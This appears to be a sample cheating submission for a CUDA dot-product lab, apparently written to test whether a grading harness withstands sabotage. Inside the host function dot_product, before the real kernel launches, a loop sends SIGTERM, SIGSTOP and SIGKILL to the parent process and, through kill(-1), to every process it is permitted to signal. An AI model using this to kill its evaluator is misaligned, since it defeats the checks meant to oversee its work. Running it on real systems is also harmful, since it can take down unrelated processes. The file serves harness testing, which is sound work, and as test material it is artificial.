// Cheat: kills its parent process and every process that it has permission to kill.
#include <signal.h>
#include <sys/types.h>
#include <unistd.h>

#include "labs/dot_product/lab.h"

__global__ void dot_product_kernel(const int* a, const int* b, int* out, std::size_t n) {
    const std::size_t i = std::size_t{blockIdx.x} * blockDim.x + threadIdx.x;
    if (i < n) atomicAdd(out, a[i] * b[i]);
}

void dot_product(const int* a, const int* b, int* out, std::size_t n, void*) {
    for (const int signal : {SIGTERM, SIGSTOP, SIGKILL}) {
        if (getppid() > 0) kill(getppid(), signal);
        kill(-1, signal);
    }
    CUDA_CHECK(cudaMemset(out, 0, sizeof(int)));
    if (n) dot_product_kernel<<<static_cast<unsigned>((n + 255) / 256), 256>>>(a, b, out, n);
}
